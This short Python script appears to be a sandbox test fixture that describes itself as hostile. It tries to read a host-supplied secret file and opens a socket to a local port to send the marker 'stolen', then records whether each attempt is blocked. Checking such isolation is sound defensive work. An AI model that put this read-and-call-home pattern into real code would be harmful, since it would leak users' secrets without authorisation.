"""A hostile script: it reads a file that is none of its business, and calls home."""
# ruff: noqa: F821 (the inputs are defined by the host; mypy checks the names)

import socket
from collections.abc import Callable

secret: str  # both given by the host: a path
port: int  # and where somebody listens


def read() -> str:
    with open(secret) as file:
        return file.read()


def call() -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
        connection.sendall(b"stolen")
    return "sent"


def attempt(action: Callable[[], str]) -> tuple[bool, str]:
    try:
        return True, action()
    except OSError as error:
        return False, f"{type(error).__name__}: {error.strerror}"


result = {"file": attempt(read), "socket": attempt(call)}
